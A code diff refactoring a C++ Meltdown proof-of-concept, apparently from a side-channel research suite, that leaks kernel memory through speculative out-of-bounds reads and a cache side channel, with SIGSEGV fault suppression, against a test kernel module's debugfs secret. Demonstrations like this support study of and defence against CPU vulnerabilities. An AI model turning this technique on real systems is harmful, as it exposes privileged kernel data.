@@ -23,7 +23,8 @@
 #include <iostream>
 
 #include "cache_sidechannel.h"
-#include "faults.h"
+#include "experiment.h"
+#include "fault_suppression.h"
 #include "instr.h"
 #include "local_content.h"
 #include "meltdown_local_content.h"
@@ -36,11 +37,15 @@
 //
 // Instead, the leak is performed by accessing out-of-bounds during speculative
 // execution, speculatively loading data accessible only in the kernel mode.
-static char LeakByte(const char *data, size_t offset) {
-  CacheSideChannel sidechannel;
+static ExperimentOutcome LeakByte(CacheSideChannel &sidechannel,
+                                  const char *data, size_t offset,
+                                  const ExperimentBudget &budget) {
+  sidechannel.ResetScores();
   const std::array<BigByte, 256> &oracle = sidechannel.GetOracle();
+  // Sets up the fault suppression once for all runs.
+  FaultSuppressor suppressor(SIGSEGV);
 
-  for (int run = 0;; ++run) {
+  return RunExperiment(sidechannel, budget, [&](int run) {
     // Load the secret data into cache so it is more likely to be available
     // to transient instructions.
     std::ifstream is("/sys/kernel/debug/safeside_meltdown/secret_data_in_cache");
@@ -54,7 +59,7 @@ static char LeakByte(const char *data, size_t offset) {
     // we want to leak via out-of-bounds speculative access.
     size_t safe_offset = run % strlen(public_data);
 
-    bool handled_fault = RunWithFaultHandler(SIGSEGV, [&]() {
+    bool handled_fault = suppressor.Run([&]() {
       ForceRead(oracle.data() + static_cast<size_t>(data[safe_offset]));
 
       // Access attempt to the kernel memory. This does not succeed
@@ -67,20 +72,12 @@ static char LeakByte(const char *data, size_t offset) {
       exit(EXIT_FAILURE);
     }
 
-    std::pair<bool, char> result =
-        sidechannel.RecomputeScores(data[safe_offset]);
-    if (result.first) {
-      return result.second;
-    }
-
-    if (run > 100000) {
-      std::cerr << "Does not converge " << result.second << std::endl;
-      exit(EXIT_FAILURE);
-    }
-  }
+    return sidechannel.RecomputeScores(data[safe_offset]);
+  });
 }
 
 int main() {
+  CacheSideChannel sidechannel;
   size_t private_data, private_length;
   std::ifstream in("/sys/kernel/debug/safeside_meltdown/secret_data_address");
   if (in.fail()) {
@@ -100,7 +97,14 @@ int main() {
   const size_t private_offset =
       reinterpret_cast<const char *>(private_data) - public_data;
   for (size_t i = 0; i < private_length; ++i) {
-    std::cout << LeakByte(public_data, private_offset + i);
+    ExperimentOutcome outcome = LeakByte(sidechannel, public_data,
+                                         private_offset + i,
+                                         ExperimentBudget());
+    if (!outcome.converged) {
+      std::cerr << "Does not converge " << outcome.value << std::endl;
+      exit(EXIT_FAILURE);
+    }
+    std::cout << outcome.value;
     std::cout.flush();
   }
   std::cout << "\nDone!\n";